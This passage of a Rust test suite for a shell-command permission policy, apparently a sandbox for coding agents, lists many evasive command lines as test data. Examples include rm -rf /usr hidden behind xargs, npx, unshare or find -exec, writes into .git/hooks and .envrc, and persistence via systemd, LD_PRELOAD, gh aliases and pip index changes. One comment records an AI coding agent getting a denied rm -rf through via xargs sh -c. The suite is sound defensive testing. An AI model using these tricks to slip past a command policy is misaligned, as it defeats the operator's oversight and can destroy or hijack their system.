        "gdb -x cmds ./a.out",
        "gdb ./a.out core",
        "perf stat rm x",
        "perf record -- ls",
        "perf trace ls",
        "perf script -s x.py",
        "hyperfine 'rm x'",
        "hyperfine --prepare 'rm x' ls",
        "parallel rm ::: x",
        "sem rm x",
        "start-stop-daemon --start --exec /bin/rm -- x",
        "start-stop-daemon -S -x /bin/rm",
        "xterm -e rm x",
        "x-terminal-emulator -e rm x",
        "gnome-terminal -- rm x",
        "entr rm x",
        "tsp rm x",
        "nq rm x",
        "mpirun rm x",
        "srun rm x",
        "docker run x rm x",
        "podman exec c rm x",
        "flatpak-spawn --host rm x",
        "machinectl shell .host /bin/rm x",
        "systemd-nspawn rm x",
        "proot rm x",
        "bwrap --bind / / rm x",
    ]);
    f.all(
        Action::Allow,
        &[
            "capsh --print",
            "capsh --decode=0x3",
            "firejail --version",
            "firejail --list",
            "gdb --version",
            "perf --version",
            "perf list",
            "hyperfine --version",
            "toybox ls",
            "docker ps",
            "docker --version",
        ],
    );
    // The real programs, where installed: each ran the command it was given.
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    let m = marker.to_str().unwrap();
    for (program, line) in [
        ("capsh", format!("capsh -- -c 'touch {m}'")),
        ("capsh", format!("capsh == -- -c 'touch {m}'")),
        ("gdb", format!("gdb -nx -batch -ex 'shell touch {m}'")),
        ("perf", format!("perf stat -o /dev/null touch {m}")),
        (
            "hyperfine",
            format!("hyperfine -N -r 1 --export-json /dev/null 'touch {m}'"),
        ),
        (
            "start-stop-daemon",
            format!("start-stop-daemon --start --exec /usr/bin/touch -- {m}"),
        ),
        ("expect", format!("expect -c 'exec touch {m}'")),
        ("parallel", format!("parallel touch ::: {m}")),
    ] {
        if !on_path(program) {
            // scripts/test-deps.sh installs all but perf, whose package follows the kernel.
            assert_eq!(
                program, "perf",
                "{program} is not installed: run scripts/test-deps.sh"
            );
            eprintln!("perf is not installed: its line is checked by analysis only");
            continue;
        }
        let _ = std::fs::remove_file(&marker);
        // capsh and start-stop-daemon live in /usr/sbin, not on every user's PATH.
        let path = format!(
            "{}:/usr/sbin:/sbin",
            std::env::var("PATH").unwrap_or_default()
        );
        let out = std::process::Command::new("bash")
            .args(["-c", &line])
            .env("PATH", path)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert!(
            marker.exists(),
            "{line}: the real {program} did not run its command: {out:?}"
        );
    }
}

fn on_path(program: &str) -> bool {
    std::env::var_os("PATH")
        .is_some_and(|p| std::env::split_paths(&p).any(|d| d.join(program).is_file()))
        || Path::new("/usr/sbin").join(program).is_file()
}

/// Round 8: writers the table missed. `ssh-keygen -f FILE` writes FILE and FILE.pub (the real
/// ssh-keygen made `.envrc`; `-s`/`-Y sign` write next to their operands, and without `-f` it
/// reads the name from its input); `flock FILE CMD` creates FILE (the real flock made `.envrc`);
/// curl ≥ 8.3's `-w '%output{FILE}'` writes FILE (per curl's manual: the curl here, 7.88, does
/// not know it), and `-w @FILE` reads a format that may say so. `ssh-keygen -D`/`-w` load a
/// library.
#[test]
fn ssh_keygen_flock_and_curl_write_out_write_the_files_they_name() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "ssh-keygen -q -N '' -f .envrc",
        "ssh-keygen -t ed25519 -N '' -C x -f .git/hooks/pre-commit",
        "ssh-keygen -qN '' -f.envrc",
        "ssh-keygen -p -N x -f .envrc",
        "ssh-keygen -R host -f .envrc",
        "ssh-keygen -t ed25519 -N ''",
        "ssh-keygen -s ca -I id .git/hooks/x.pub",
        "ssh-keygen -Y sign -f key -n file .git/hooks/x",
        "ssh-keygen -D /tmp/e/lib.so",
        "ssh-keygen -w /tmp/e/lib.so -t ecdsa-sk -f k",
        "flock .envrc true",
        "flock -n .git/hooks/pre-commit -c true",
        "flock -x .envrc ls",
        "wget -q -O- x | flock .envrc true",
    ]);
    f.all(
        Action::Allow,
        &[
            "ssh-keygen -l -f key.pub",
            "ssh-keygen -lf key.pub",
            "ssh-keygen -y -f key",
            "ssh-keygen -q -N '' -t ed25519 -f key",
            "ssh-keygen -F host -f known",
            "flock lock true",
            "flock -n lock -c true",
        ],
    );
    // curl, which the first policy denies, under an allow-all policy with the network open.
    let f = fixture("[shell]\ndefault = \"allow\"\n", "allow");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "curl -w '%output{.envrc}%{url}' x",
        "curl -w '%output{>>.envrc}x' x",
        "curl --write-out='%output{.git/hooks/pre-commit}x' x",
        "curl --write-o '%output{.envrc}x' x",
        "curl -w @fmt x",
        "curl -w \"$fmt\" x",
    ]);
    f.all(
        Action::Allow,
        &[
            "curl -w '%{http_code}' x",
            "curl -sS -w '%{http_code}\\n' x",
        ],
    );
    // The real programs write the file.
    let dir = tempfile::tempdir().unwrap();
    for (line, file) in [
        ("ssh-keygen -q -N '' -t ed25519 -f .envrc", ".envrc"),
        ("ssh-keygen -q -N '' -t ed25519 -f .envrc", ".envrc.pub"),
        ("flock lockfile true", "lockfile"),
    ] {
        let _ = std::fs::remove_file(dir.path().join(".envrc"));
        let _ = std::fs::remove_file(dir.path().join(".envrc.pub"));
        let out = std::process::Command::new("bash")
            .args(["-c", line])
            .current_dir(dir.path())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert!(dir.path().join(file).exists(), "{line}: no {file}: {out:?}");
    }
}

/// Round 8: commands that persist through a daemon or the operator's settings, outside the
/// roots. Under `network = "allow"` a sandboxed command reaches the host's unix sockets (a
/// listener under /tmp got the bytes through `cordon exec`; refused under "deny"), so
/// `systemctl --user enable/link/edit/set-environment`, `loginctl enable-linger` and `busctl
/// call` reach the operator's service manager, which writes and runs outside any sandbox.
/// rustup's `toolchain link`/`default`/`override set`/`set` change the toolchain the
/// operator's cargo runs; `pip config set`, `gh alias set` (a `!` alias is a shell command),
/// `gh auth setup-git` and `yarn`/`pnpm config set` change settings a later program obeys.
/// Each asks; only the verbs known to read pass.
#[test]
fn settings_a_daemon_or_the_operators_tools_keep_ask() {
    let f = allow_all();
    f.never_allowed(&[
        "systemctl --user enable x.service",
        "systemctl --user link /tmp/e/x.service",
        "systemctl --user edit x",
        "systemctl --user set-environment LD_PRELOAD=/tmp/e/x.so",
        "systemctl --user import-environment",
        "systemctl --user start x",
        "systemctl --user daemon-reload",
        "systemctl -q --user enable --now x",
        "systemctl --user \"$verb\" x",
        "loginctl enable-linger",
        "loginctl enable-linger root",
        "busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss x.service replace",
        "dbus-send --session --dest=org.freedesktop.systemd1 /x y.z",
        "gdbus call --session --dest x --object-path /x --method y",
        "rustup toolchain link evil /tmp/e",
        "rustup default evil",
        "rustup override set evil",
        "rustup set profile minimal",
        "rustup self uninstall -y",
        "pip config set global.index-url http://index.example.org/",
        "pip --isolated config set global.index-url x",
        "pip config edit",
        "pip3 config unset global.index-url",
        "gh alias set co '!touch pwned'",
        "gh alias import aliases.yml",
        "gh auth setup-git",
        "gh config set editor x",
        "gh extension install x/y",
        "yarn config set x y",
        "pnpm config set x y",
    ]);
    f.all(
        Action::Allow,
        &[
            "systemctl status",
            "systemctl --user status x",
            "systemctl --user list-units",
            "systemctl is-active x",
            "systemctl --version",
            "loginctl list-sessions",
            "loginctl show-user root",
            "busctl --user list",
            "rustup show",
            "rustup toolchain list",
            "rustup --version",
            "rustup which cargo",
            "pip list",
            "pip config list",
            "pip config get global.index-url",
            "gh pr list",
            "gh alias list",
            "yarn config get x",
        ],
    );
}

/// Round 8: Python's pdb runs the `.pdbrc` of the directory it starts in (Python statements
/// included) besides the home's: the operator's next `python -m pdb` or `breakpoint()` in the
/// project runs what a command wrote there, outside any sandbox (the real python 3 ran it here).
#[test]
fn a_project_pdbrc_is_on_the_surface() {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    std::fs::write(
        dir.path().join(".pdbrc"),
        format!("import pathlib; pathlib.Path({:?}).touch()\nc\n", marker),
    )
    .unwrap();
    std::fs::write(dir.path().join("t.py"), "x = 1\n").unwrap();
    let out = std::process::Command::new("python3")
        .args(["-m", "pdb", "t.py"])
        .current_dir(dir.path())
        .env("HOME", dir.path().join("no-home"))
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        marker.exists(),
        "pdb did not run the project's .pdbrc: {out:?}"
    );
    let f = allow_all();
    f.never_allowed(&["cat x > .pdbrc", "cp x sub/.pdbrc", "echo c >> .pdbrc"]);
}

/// Round 8, the long tail of runners: environment and project managers that run their argv
/// (`uv run`, `poetry run`, `pipenv run`, `pdm run`, `hatch run`, `conda run`, `direnv exec
/// DIR`, `pyenv exec`, `mise exec --`, `asdf exec`, `ip netns exec NS`) and small argv
/// wrappers (`run0`, `chpst`, `daemonize`, `ifne`, `zrun`, `timelimit`, `lckdo FILE`,
/// `with-lock-ex FILE`) let a `rm` deny rule miss their command: now seen through. Watchers,
/// detachers and relays that run a string or outlive the call (`watchexec`, `nodemon`,
/// `reflex`, `dtach`, `abduco`, `socat EXEC:`, `ncat -e`, `nix-shell --run`, `nix run`,
/// `vipe`, `schedtool -e`, `pee`) ask.
#[test]
fn the_long_tail_of_runners_is_seen_through_or_asks() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "uv run rm x",
            "uv run --with pytest -- rm x",
            "uv run -p 3.12 rm x",
            "poetry run rm x",
            "pipenv run rm x",
            "pdm run rm x",
            "hatch run rm x",
            "conda run -n base rm x",
            "direnv exec . rm x",
            "pyenv exec rm x",
            "rbenv exec rm x",
            "mise exec -- rm x",
            "mise x node@20 -- rm x",
            "asdf exec rm x",
            "ip netns exec ns rm x",
            "run0 rm x",
            "chpst -u nobody rm x",
            "daemonize /bin/rm x",
            "ifne rm x",
            "zrun rm x",
            "timelimit -t 5 rm x",
            "lckdo /tmp/l rm x",
            "with-lock-ex /tmp/l rm x",
        ],
    );
    f.never_allowed(&[
        "watchexec rm x",
        "nodemon --exec 'rm x'",
        "reflex -- rm x",
        "dtach -n /tmp/s rm x",
        "abduco -n s rm x",
        "socat - EXEC:'rm x'",
        "ncat -e '/bin/rm x' h 1",
        "nix-shell --run 'rm x'",
        "nix run x -- rm",
        "vipe",
        "schedtool -e rm x",
        "pee 'rm x'",
        "uv run --unknown-option x rm",
        "poetry run \"$c\"",
    ]);
    f.all(
        Action::Allow,
        &[
            "uv run pytest",
            "uv run --frozen pytest -q",
            "uv sync",
            "poetry run pytest",
            "poetry install",
            "pipenv run python x.py",
            "conda run -n base python x.py",
            "direnv exec . make",
            "mise exec -- node x.js",
            "pyenv versions",
            "ip addr",
        ],
    );
    // The real `direnv exec DIR CMD` runs CMD (pyenv's `exec` and `ip netns exec` did too,
    // checked by hand: pyenv is not on every user's PATH, and a namespace needs root).
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    let out = std::process::Command::new("direnv")
        .args(["exec", ".", "touch"])
        .arg(&marker)
        .current_dir(dir.path())
        .output()
        .expect("direnv is not installed: run scripts/test-deps.sh");
    assert!(
        marker.exists(),
        "direnv exec did not run its command: {out:?}"
    );
}

/// xargs appends its input to its command's words, and a runner reads those words as it reads
/// its own: `xargs sh -c` takes its script from the input (redhost21, round 8: the real Claude
/// Code ran `printf %s "rm -rf keep" | xargs -0 sh -c` under a policy that denies `rm -rf`,
/// and it was allowed). The appended words are only known when the line runs, so the script is
/// too: the line asks.
#[test]
fn xargs_input_that_becomes_a_runners_command_is_never_allowed() {
    // The real xargs hands its input to sh -c as the script, and the script runs.
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("keep")).unwrap();
    let out = std::process::Command::new("bash")
        .args(["-c", "printf %s 'rm -rf keep' | xargs -0 sh -c"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(
        !dir.path().join("keep").exists(),
        "the real xargs did not run its input as sh -c's script: {out:?}"
    );
    let lines = [
        "printf %s \"rm -rf keep\" | xargs -0 sh -c",
        "xargs sh -c",
        "xargs bash -c",
        "xargs -n1 sh -c",
        "xargs env sh -c",
        "xargs nice sh -c",
        "xargs timeout 5 sh -c",
    ];
    allow_all().never_allowed(&lines);
    // The input as sh -c's $0 and arguments, not its script, and xargs feeding plain programs.
    allow_all().all(
        Action::Allow,
        &[
            "xargs sh -c 'echo \"$@\"' sh",
            "find . -name '*.rs' | xargs wc -l",
            "xargs -0 cat",
            "xargs grep -l foo",
        ],
    );
}

// ---- round 8: words only known at run time ------------------------------------------------

/// The default profile's rm rules, a deny on a git option and an ask, default allow.
const RUN_TIME_RULES: &str = r#"
[shell]
default = "allow"
[[shell.rules]]
pattern = "rm -rf /"
action = "deny"
[[shell.rules]]
pattern = "rm -[rRf]*[rRf] /*"
action = "deny"
[[shell.rules]]
pattern = "git push --force"
action = "deny"
[[shell.rules]]
pattern = "npm publish"
action = "ask"
"#;

/// The argv `line` gives `prog` in the real bash, with `env` set (a stub `prog` records it).
fn bash_argv(prog: &str, line: &str, env: &[(&str, &str)]) -> Option<Vec<String>> {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let stub = dir.path().join("bin");
    std::fs::create_dir(&stub).unwrap();
    let out = dir.path().join("argv");
    std::fs::write(
        stub.join(prog),
        format!(
            "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done > '{}'\n",
            out.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(stub.join(prog), std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut cmd = std::process::Command::new("bash");
    cmd.arg("-c")
        .arg(line)
        .current_dir(dir.path())
        .env_clear()
        .env("PATH", format!("{}:/usr/bin:/bin", stub.display()))
        .stdin(std::process::Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.status().unwrap();
    let text = std::fs::read_to_string(out).ok()?;
    Some(text.lines().map(String::from).collect())
}

/// A rule matched a word's spelling, so a deny or ask rule never saw what `"$x"`, `$(cat f)`,
/// `$x` or xargs' input stand for: `rm -rf "$x"` was allowed under the default profile's rm
/// rules, `git push "$f"` under a deny on `git push --force`. A line is allowed only if no
/// deny or ask rule could match it for some value of those words: these ask (never deny: the
/// value may be harmless).
#[test]
fn a_deny_or_ask_rule_a_run_time_word_could_match_is_never_passed_by_an_allow() {
    // The real bash, given the value, runs exactly what the rule denies.
    let rm_rf_usr = Some(vec!["-rf".to_string(), "/usr".to_string()]);
    assert_eq!(
        bash_argv("rm", r#"rm -rf "$x""#, &[("x", "/usr")]),
        rm_rf_usr
    );
    assert_eq!(bash_argv("rm", "echo /usr | xargs rm -rf", &[]), rm_rf_usr);
    // xargs' input adds operands, options included.
    assert_eq!(
        bash_argv("rm", r"printf -- '-f\n/usr\n' | xargs rm -r", &[]),
        Some(vec!["-r".to_string(), "-f".to_string(), "/usr".to_string()])
    );
    assert_eq!(
        bash_argv("git", r#"git push "$f""#, &[("f", "--force")]),
        Some(vec!["push".to_string(), "--force".to_string()])
    );
    // A quoted `$@` or `${a[@]}` is any number of words.
    assert_eq!(
        bash_argv("rm", r#"set -- -rf /usr; rm "$@""#, &[]),
        rm_rf_usr
    );
    // A tilde prefix other than the home's and the working directory's is a directory only
    // known when the line runs (a user's home, the previous directory).
    assert_eq!(bash_argv("rm", "rm -rf ~root", &[]).unwrap()[1], "/root");
    assert_eq!(
        bash_argv("rm", "cd /usr; cd /tmp; rm -rf ~-", &[]),
        rm_rf_usr
    );
    // xargs -I R puts its input where R is, whatever R is spelled.
    assert_eq!(
        bash_argv("rm", "echo /usr | xargs -I % rm -rf %", &[]),
        rm_rf_usr
    );
    assert_eq!(
        bash_argv("rm", "echo /usr | xargs -iX rm -rf X", &[]),
        rm_rf_usr
    );
    let f = fixture(RUN_TIME_RULES, "deny");
    f.all(
        Action::Ask,
        &[
            "rm -rf ~root",
            "rm -rf ~nobody",
            "rm -rf ~-",
            "cd /usr; cd /tmp; rm -rf ~-",
            "rm -rf ~1",
            "rm -rf ~+1",
            "echo /usr | xargs -I % rm -rf %",
            "echo /usr | xargs -I% rm -rf %",
            "echo /usr | xargs -I X rm -rf X",
            "echo /usr | xargs -iX rm -rf X",
            "echo /usr | xargs --replace=X rm -rf X",
            "echo /usr | xargs -I '*' rm -rf '*'",
            r#"rm "$@""#,
            r#"rm "${a[@]}""#,
            r#"rm "${a[@]:1}""#,
            r#"rm -rf "$x""#,
            "rm -rf $x",
            "rm -rf $(cat list)",
            r#"rm -rf "$(cat list)""#,
            "rm -rf `cat list`",
            "echo /usr | xargs rm -rf",
            "xargs rm -r",
            "find . -name x | xargs rm -r",
            r#"rm -r "$d" -f"#,
            r#"rm -r "$d""#,
            r#"git push "$f""#,
            r#"git push origin "$f""#,
            "git $cmd",
            "git push $opts origin main",
            r#"npm "$verb""#,
            "npm $verb",
        ],
    );
    // Where no deny or ask rule could match any value, the line stays allowed.
    f.all(
        Action::Allow,
        &[
            "cargo build --release",
            r#"git commit -m "$msg""#,
            r#"ls "$dir""#,
            "git push origin main",
            "npm run test",
            "rm -rf build/*",
            "rm -rf *.o",
            "rm -rf target",
            "rm -rf ~/build",
            "rm -rf '~root'",
            // No default rule denies a delete that is not recursive, whatever the operand.
            r#"rm "$f""#,
            r#"rm -f "$f""#,
            r#"echo "$x""#,
        ],
    );
    // The reason names the rule and the word.
    let (_, why) = f.decide(r#"rm -rf "$x""#);
    assert!(why.contains("rm -rf /") && why.contains("$x"), "{why}");
    assert!(why.contains("only known when the line runs"), "{why}");
    // A deny still denies, and an ask stays an ask.
    f.all(Action::Deny, &["rm -rf /usr", r#"git push --force "$x""#]);
    f.all(Action::Ask, &[r#"npm publish "$x""#]);
}

/// An ask rule that a later allow rule overrides for every value is not brought back by an
/// unknown word; one the allow does not cover is.
#[test]
fn an_allow_after_an_ask_covers_the_unknown_words_only_when_it_matches_them_all() {
    let f = fixture(
        r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "pkg publish"
action = "ask"
[[shell.rules]]
pattern = "pkg"
action = "allow"
[[shell.rules]]
pattern = "svc stop"
action = "allow"
[[shell.rules]]
pattern = "svc stop --all"
action = "ask"
"#,
        "deny",
    );
    f.all(
        Action::Allow,
        &[r#"pkg "$verb""#, "pkg $verb", "svc stop web"],
    );
    f.all(Action::Ask, &[r#"svc stop "$x""#, "svc $x"]);
}

/// Round 9. A wrapper given no command runs the user's shell, which reads its commands from
/// the input: `echo 'rm -rf /usr' | unshare -r` ran `rm` under the default profile's allow.
/// The real `unshare -r`, `newgrp`, `sg GROUP` and `fakeroot` ran the input's `touch` here
/// (as root and as a user; `chroot /` and `nsenter -t PID -m` did too, as root).
#[test]
fn a_wrapper_given_no_command_runs_a_shell_that_reads_the_input() {
    let dir = tempfile::tempdir().unwrap();
    let group = String::from_utf8(
        std::process::Command::new("id")
            .arg("-gn")
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    for wrapper in [
        "unshare -r".to_string(),
        "newgrp".to_string(),
        format!("sg {}", group.trim()),
        "fakeroot".to_string(),
    ] {
        let marker = dir.path().join("ran");
        let _ = std::fs::remove_file(&marker);
        let line = format!("echo 'touch ran' | {wrapper}");
        let out = std::process::Command::new("bash")
            .args(["-c", &line])
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(
            marker.exists(),
            "{line}: the shell did not run the input: {out:?}"
        );
    }
    let lines = [
        "echo 'rm -rf /usr' | unshare",
        "echo 'rm -rf /usr' | unshare -r -n",
        "echo 'rm -rf /usr' | chroot /",
        "echo 'rm -rf /usr' | chroot --userspec=0:0 /",
        "echo 'rm -rf /usr' | nsenter -t 1 -m",
        "echo 'rm -rf /usr' | nsenter --all --target 1",
        "echo 'rm -rf /usr' | newgrp",
        "echo 'rm -rf /usr' | newgrp root",
        "echo 'rm -rf /usr' | sg root",
        "echo 'rm -rf /usr' | fakeroot",
        "echo 'rm -rf /usr' | fakeroot --",
        "echo 'rm -rf /usr' | pkexec",
        "echo 'rm -rf /usr' | firejail",
        "echo 'rm -rf /usr' | firejail --noprofile",
    ];
    let default = fixture("[shell]\ndefault = \"allow\"\n", "deny");
    default.never_allowed(&lines);
    allow_all().never_allowed(&lines);
    // With a command, or only reporting, they stay as they were.
    allow_all().all(
        Action::Allow,
        &[
            "unshare -r ls",
            "chroot / ls",
            "unshare --help",
            "fakeroot -v",
        ],
    );
    allow_all().all(Action::Deny, &["unshare -r rm x", "sg root 'rm x'"]);
}

/// Round 9. The package runners run a program on the PATH when no package of that name is
/// installed: the real `npx --offline touch M` (npm 11) and `npx -c 'touch M'` ran touch, and
/// the default profile allowed `npx rm -rf /usr`. Their command is read as a command now;
/// `bunx`, `bun x`, `pnpm dlx|exec`, `yarn exec|dlx` and `npm exec|x` by their manuals.
#[test]
fn the_package_runners_command_is_read() {
    let dir = tempfile::tempdir().unwrap();
    for line in ["npx --offline touch ran", "npx --offline -c 'touch ran'"] {
        let marker = dir.path().join("ran");
        let _ = std::fs::remove_file(&marker);
        let out = std::process::Command::new("bash")
            .args(["-c", line])
            .current_dir(dir.path())
            .env("npm_config_cache", dir.path().join("cache"))
            .env("npm_config_update_notifier", "false")
            .output()
            .expect("bash");
        assert!(marker.exists(), "{line}: did not run touch: {out:?}");
    }
    let default = fixture("[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"rm -rf /usr\"\naction = \"deny\"\n", "deny");
    default.all(
        Action::Deny,
        &[
            "npx rm -rf /usr",
            "npx --yes rm -rf /usr",
            "npx -y -p left-pad rm -rf /usr",
            "npx --package=left-pad rm -rf /usr",
            "npx -c 'rm -rf /usr'",
            "npx --call 'rm -rf /usr'",
            "bunx rm -rf /usr",
            "bun x rm -rf /usr",
            "pnpm dlx rm -rf /usr",
            "pnpm exec rm -rf /usr",
            "yarn exec rm -rf /usr",
            "yarn dlx rm -rf /usr",
            "npm exec -- rm -rf /usr",
            "npm x -- rm -rf /usr",
            "npm exec -c 'rm -rf /usr'",
        ],
    );
    default.never_allowed(&[
        "npx --some-new-option rm -rf /usr",
        r#"npx "$c" -rf /usr"#,
        "npm exec rm -rf /usr",
    ]);
    default.all(
        Action::Allow,
        &[
            "npx eslint .",
            "npx --yes prettier --check .",
            "bunx tsc --noEmit",
            "bun x tsc",
        ],
    );
}

/// Round 9. Writes to the null device and to the line's own output streams (`/dev/stdout`,
/// `/dev/stderr`, `/dev/fd/1`, `/dev/fd/2`) are no files of the tree, for the programs that
/// open their output where it is: under strace, the real tee, curl 7.88, wget 1.21, sort, uniq
/// and dd each opened `/dev/null` with `O_WRONLY|O_CREAT` and renamed, unlinked or made
/// nothing. (A stream the line sends to a file is that redirection's write, judged on its
/// own.) They asked before. What replaces its destination (`mv`, `install`, `ln`, `cp
/// --remove-destination`) and `curl --output-dir DIR -o /dev/null`, which the real curl
/// wrote as `DIR//dev/null`, are judged as before, and so is `/dev/fd/3`.
#[test]
fn writes_to_the_null_device_or_the_lines_streams_are_no_files() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("src"), "b\na\n").unwrap();
    let url = format!("file://{}", d.join("src").display());
    let traced = |line: &str| -> String {
        let out = std::process::Command::new("strace")
            .args([
                "-f",
                "-qq",
                "-e",
                "trace=%file",
                "-o",
                "trace",
                "bash",
                "-c",
                line,
            ])
            .current_dir(d)
            .output()
            .expect("strace is not installed: run scripts/test-deps.sh");
        assert!(out.status.success(), "{line}: {out:?}");
        std::fs::read_to_string(d.join("trace")).unwrap()
    };
    for line in [
        "echo x | tee /dev/null /dev/stdout >&2".to_string(),
        format!("curl -s -o /dev/null -D /dev/stderr {url}"),
        // wget has no `file:` scheme: it opens `-O`'s file first, then fails the download.
        format!("wget -q -O /dev/null {url} || true"),
        "sort -o /dev/null src".to_string(),
        "uniq src /dev/null".to_string(),
        "dd if=src of=/dev/null status=none".to_string(),
    ] {
        let trace = traced(&line);
        let opened = trace
            .lines()
            .any(|l| l.contains("\"/dev/null\"") || l.contains("\"/dev/stderr\""));
        let replaced = trace.lines().any(|l| {
            l.contains("/dev/")
                && [
                    "rename",
                    "unlink",
                    "mkdir",
                    "link(",
                    "linkat",
                    "chmod",
                    "truncate(",
                ]
                .iter()
                .any(|s| l.contains(s))
        });
        assert!(opened && !replaced, "{line}:\n{trace}");
    }
    let trace = traced(&format!(
        "curl -s --create-dirs --output-dir out -o /dev/null {url}"
    ));
    assert!(d.join("out/dev/null").is_file(), "{trace}");

    let f = fixture("[shell]\ndefault = \"allow\"\n", "allow");
    f.all(
        Action::Allow,
        &[
            "curl -o /dev/null https://example.org",
            "curl -sS -o /dev/null -w '%{http_code}' https://example.org",
            "curl --output /dev/null -D /dev/stderr https://example.org",
            "wget -O /dev/null https://example.org",
            "ls | tee /dev/null",
            "ls | tee -a /dev/stderr /dev/fd/2",
            "sort -o /dev/stdout x",
            "uniq x /dev/null",
            "dd if=x of=/dev/null",
        ],
    );
    f.never_allowed(&[
        "cp x /dev/null",
        "mv x /dev/null",
        "install x /dev/null",
        "ln -sf x /dev/null",
        "curl --output-dir .git -o /dev/null https://example.org",
        "curl --output-d .git -o /dev/null https://example.org",
        "curl --output- .git -o /dev/null https://example.org",
        "ls | tee /dev/fd/3",
        "exec 3>.envrc; ls | tee /dev/fd/3",
        "ls | tee /dev/null > .envrc",
        "{ curl -o /dev/stdout https://example.org; } > .envrc",
        "ls | tee /dev/nul",
        "ls | tee /dev/null/../../.envrc",
    ]);
}

/// Round 9. find's `{}` is a path find names: the start path itself or one below it, as
/// spelled from the start path (`./x` for `.`: the real find -exec gave rm `.` and `./keep`
/// here). It was read as any word, so `find . -exec rm -rf {} +` asked under the default
/// profile's `rm -rf /` rule (a false ask). Now it stands for the start path and what is below
/// it, and a rule that any such path could match is still never passed; `-L`/`-H` (links
/// followed below), `-execdir` (run from each file's directory), several start paths and a
/// `{}` inside a longer word keep the old reading (any word).
#[test]
fn find_exec_braces_are_the_start_path_or_below_it() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("keep")).unwrap();
    let out = std::process::Command::new("bash")
        .args(["-c", "find . -exec printf '%s\\n' {} +"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), ".\n./keep\n");

    let default_rm = "[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"rm -rf /\"\naction = \"deny\"\n[[shell.rules]]\npattern = \"rm -[rRf]*[rRf] /*\"\naction = \"deny\"\n";
    let f = fixture(default_rm, "deny");
    std::fs::create_dir_all(f.ws.join("build")).unwrap();
    f.all(
        Action::Allow,
        &[
            "find . -exec rm -rf {} +",
            "find . -name '*.o' -exec rm -f {} +",
            "find build -mindepth 1 -exec rm -rf {} \\;",
            "find ./build -exec rm -rf {} +",
            "find /tmp/x -exec rm -rf {} +",
        ],
    );
    f.never_allowed(&[
        "find / -exec rm -rf {} +",
        "find /usr -exec rm -rf {} +",
        "find //usr -exec rm -rf {} +",
        "find /usr/ -exec rm -rf {} +",
        "find /usr/. -exec rm -rf {} +",
        "find ../.. -exec rm -rf {} +",
        "find ../../.. -exec rm -rf {} \\;",
        "cd /; find usr -exec rm -rf {} +",
        "find -L . -exec rm -rf {} +",
        "find -H . -exec rm -rf {} +",
        "find . -follow -exec rm -rf {} +",
        "find . -execdir rm -rf {} +",
        "find . /usr -exec rm -rf {} +",
        "find . -exec rm -rf {}/../../.. +",
        "find \"$d\" -exec rm -rf {} +",
        "find . -files0-from list -exec rm -rf {} +",
    ]);
    // A rule on the start path or a path below it is one find could give; one beside it is not.
    let chmod = fixture(
        "[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"chmod 777 ./keep\"\naction = \"deny\"\n",
        "deny",
    );
    chmod.all(Action::Ask, &["find . -exec chmod 777 {} +"]);
    for (template, action, want) in [
        ("rm -rf /**/keep", "deny", Action::Ask),
        ("rm -rf WS/keep", "deny", Action::Ask),
        ("rm -rf WS/*", "ask", Action::Ask),
        ("rm -rf PARENT/*", "ask", Action::Ask),
        ("rm -rf WS", "deny", Action::Ask),
        ("rm -rf WS-other/*", "ask", Action::Allow),
        ("rm -rf PARENT/other", "deny", Action::Allow),
    ] {
        // The rule names the workspace the line runs in.
        let g = fixture("[shell]\ndefault = \"allow\"\n", "deny");
        let pattern = template
            .replace("WS", &g.ws.display().to_string())
            .replace("PARENT", &g.ws.parent().unwrap().display().to_string());
        let rules = format!(
            "[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"{pattern}\"\naction = \"{action}\"\n"
        );
        std::fs::write(g.ws.join("cordon.toml"), format!(
            "version = 1\n{rules}\n[sandbox]\nnetwork = \"deny\"\n[sandbox.paths.ws]\nroot = \".\"\nmode = \"rw\"\n[approval]\naudit_log = \".cordon/audit.jsonl\"\n"
        )).unwrap();
        let policy = Policy::load(&g.ws.join("cordon.toml")).unwrap();
        let rules = RuleSet::new(&policy.shell);
        let line = "find . -exec rm -rf {} +";
        let a = assess(&parse_in(line, &inherited()), &rules, &g.cx);
        assert_eq!(
            a.decision.action, want,
            "{line} under {pattern} ({action}): {}",
            a.decision.reason
        );
    }
}

/// Round 9 (found by the tricky-constructs oracle): after an assignment alone on its line, the
/// parser read the newline into the next command's name (`\n[`), so `[ -v 'a[$(cmd)]' ]` was
/// not seen as `[`, and `IFS=r` newline `[ -v 'a[$(rm src)]' ]` was allowed while bash ran
/// `rm src` (the real bash ran the substitution in each line below).
#[test]
fn a_newline_read_into_a_command_name_is_not_the_name() {
    let dir = tempfile::tempdir().unwrap();
    let lines = [
        "IFS=r\n[ -v 'a[$(touch pwned)]' ]",
        "x=1\n[ -v 'a[$(touch pwned)]' ]",
